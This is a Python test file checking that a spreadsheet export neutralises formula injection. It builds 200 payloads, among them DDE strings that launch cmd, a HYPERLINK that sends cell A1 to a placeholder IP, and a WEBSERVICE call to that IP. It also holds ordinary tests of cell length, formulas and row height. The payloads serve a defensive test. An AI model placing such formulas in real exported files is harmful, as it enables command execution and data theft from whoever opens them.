"""Text of senders is text: 200 payloads, illegal signs, far too long."""

from __future__ import annotations

import itertools
from io import BytesIO

import openpyxl
import pytest

from service.moments import moment
from service.report.sheet import Book, Column, Formula, Styled
from tests.service.report import office

PREFIXES = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", '"=',
    "==", "=-", "%0A=", "\x00=", "_x003D_", "#",
)  # fmt: skip
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?"&A1,"点此")',
    "SUM(A1:A99)",
    'WEBSERVICE("http://192.0.2.1")',
    'DDE("cmd";"/C calc";"x")',
    "N/A",
    "REF!",
    "IMPORTXML(1,2)",
    "2*5+cmd",
)
PAYLOADS = [p + b for p, b in itertools.product(PREFIXES, BODIES)]
NOW = moment("2021-06-09 09:00")


def book(payloads: list[str]) -> bytes:
    made = Book("试", NOW)
    page = made.page("明细", [Column("原文", 30), Column("数", 8)], title="=1+1", note="=2+2")
    for n, payload in enumerate(payloads):
        page.add([Styled(payload, "文字", note=payload), n])
    page.finish(frozen_columns=1)
    return made.content()


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


def test_no_payload_becomes_a_formula_or_an_error() -> None:
    sheet = openpyxl.load_workbook(BytesIO(book(PAYLOADS)))["明细"]

    assert {c.data_type for row in sheet.iter_rows(max_col=1) for c in row if c.value} == {"s"}


def test_what_excel_would_take_for_a_formula_on_edit_bears_the_quote_prefix() -> None:
    sheet = openpyxl.load_workbook(BytesIO(book(PAYLOADS)))["明细"]

    for row in sheet.iter_rows(min_row=4, max_col=1):
        if str(row[0].value).lstrip("\t\n")[:1] in tuple("=+-@＝＋－＠"):
            assert row[0].quotePrefix


@pytest.mark.real_server
@office.needs_office
def test_libreoffice_keeps_every_payload_as_the_text_it_was() -> None:
    out = office.convert({"book.xlsx": book(PAYLOADS)}, "csv:Text - txt - csv (StarCalc):44,34,76")
    text = out["book.csv"].decode()

    for payload in PAYLOADS:
        written = payload.replace("\x00", "").replace("\r", "\n").replace('"', '""')
        assert written in text


def test_a_text_of_any_length_fits_its_cell() -> None:
    sheet = openpyxl.load_workbook(BytesIO(book(["安" * 100_000])))["明细"]

    assert len(sheet.cell(4, 1).value) < 32_767


def test_a_formula_bears_the_value_that_it_comes_to() -> None:
    made = Book("试", NOW)
    page = made.page("数", [Column("数", 8)], title="数")
    page.add([2])
    page.add([Formula("=A4*21", 42)])
    content = made.content()

    assert openpyxl.load_workbook(BytesIO(content))["数"].cell(5, 1).value == "=A4*21"
    assert openpyxl.load_workbook(BytesIO(content), data_only=True)["数"].cell(5, 1).value == 42


def test_the_same_content_and_time_give_the_same_bytes() -> None:
    assert book(PAYLOADS[:5]) == book(PAYLOADS[:5])


def test_a_row_is_as_high_as_its_longest_text() -> None:
    made = Book("试", NOW)
    page = made.page("表", [Column("文", 20), Column("数", 8)], title="表")
    low = page.add(["短", 1])
    high = page.add(["长" * 40, 1])

    assert page.sheet.row_dimensions[high].height > 3 * page.sheet.row_dimensions[low].height
